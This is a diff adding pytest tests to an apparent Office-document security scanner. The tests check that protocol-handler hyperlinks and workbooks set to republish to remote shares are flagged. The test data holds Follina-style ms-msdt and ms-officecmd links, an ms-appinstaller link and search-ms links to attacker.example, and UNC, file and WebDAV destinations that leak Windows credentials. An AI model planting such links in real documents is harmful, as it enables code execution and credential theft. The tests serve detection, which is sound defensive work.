@@ -1248,3 +1248,58 @@ def test_red_team_evasions_and_their_look_alikes(case: Case) -> None:
     """Hostile cases give a problem that is not informational; benign look-alikes none."""
     report = analyse_package(case.build())
     assert bool(threats(report)) is case.hostile
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "ms-msdt:/id PCWDiagnostic /skip force /param &quot;IT_BrowseForFile=x&quot;",
+        "ms-officecmd:{&quot;id&quot;:3}",
+        "ms-appinstaller:?source=https://attacker.example/x.appinstaller",
+        "search-ms:query=x&amp;subquery=%5C%5Cattacker.example%5Cs%5Cx.search-ms",
+        "search-ms:query=x&amp;crumb=location%253A%255C%255Cattacker.example%255Cs",  # twice
+    ],
+    ids=["ms-msdt", "ms-officecmd", "ms-appinstaller", "saved search", "escaped twice"],
+)
+def test_a_hyperlink_to_a_protocol_handler_that_starts_a_program(target: str) -> None:
+    # a red team's Follina-style and App Installer links, and searches that read a saved search
+    # or a folder on a share, were approved as plain hyperlinks
+    report = analyse_package(docx(rels=[("hyperlink", target, True)]))
+    assert threats(report) == [(OpcKind.EXTERNAL_LINK, "word/_rels/document.xml.rels", "hyperlink")]
+
+
+def test_a_hyperlink_to_a_local_search_is_allowed() -> None:
+    target = "search-ms:query=invoice&amp;crumb=location:C%3A%5CUsers%5Cme%5CDocuments"
+    assert threats(analyse_package(docx(rels=[("hyperlink", target, True)]))) == []
+
+
+@pytest.mark.parametrize(
+    ("destination", "auto", "flagged"),
+    [
+        ("\\\\attacker.example\\share\\report.htm", "1", True),
+        ("file://attacker.example/share/report.htm", "true", True),
+        ("https://attacker.example/dav/report.htm", "1", True),
+        ("\\\\attacker.example\\share\\report.htm", "0", False),  # only when asked to publish
+        ("C:\\Users\\me\\Documents\\report.htm", "1", False),
+    ],
+)
+def test_a_workbook_republished_to_another_machine_on_save(
+    destination: str, auto: str, flagged: bool
+) -> None:
+    # Excel writes the page to destinationFile whenever the workbook is saved (autoRepublish):
+    # to a share, that sends the reader's Windows credentials there
+    publish = (
+        f'<webPublishObjects count="1"><webPublishObject id="1" divId="Book_1" '
+        f'destinationFile="{destination}" autoRepublish="{auto}"/></webPublishObjects>'
+    )
+    item = (
+        f'<webPublishItems count="1"><webPublishItem id="2" divId="Book_2" sourceType="sheet" '
+        f'destinationFile="{destination}" autoRepublish="{auto}"/></webPublishItems>'
+    )
+    expected = [(OpcKind.EXTERNAL_LINK, "xl/workbook.xml", "web publishing")] if flagged else []
+    assert threats(analyse_package(xlsx(names=publish))) == expected
+    expected = (
+        [(OpcKind.EXTERNAL_LINK, "xl/worksheets/sheet1.xml", "web publishing")] if flagged else []
+    )
+    sheet = worksheet().replace("</worksheet>", f"{item}</worksheet>")
+    assert threats(analyse_package(xlsx(sheet))) == expected
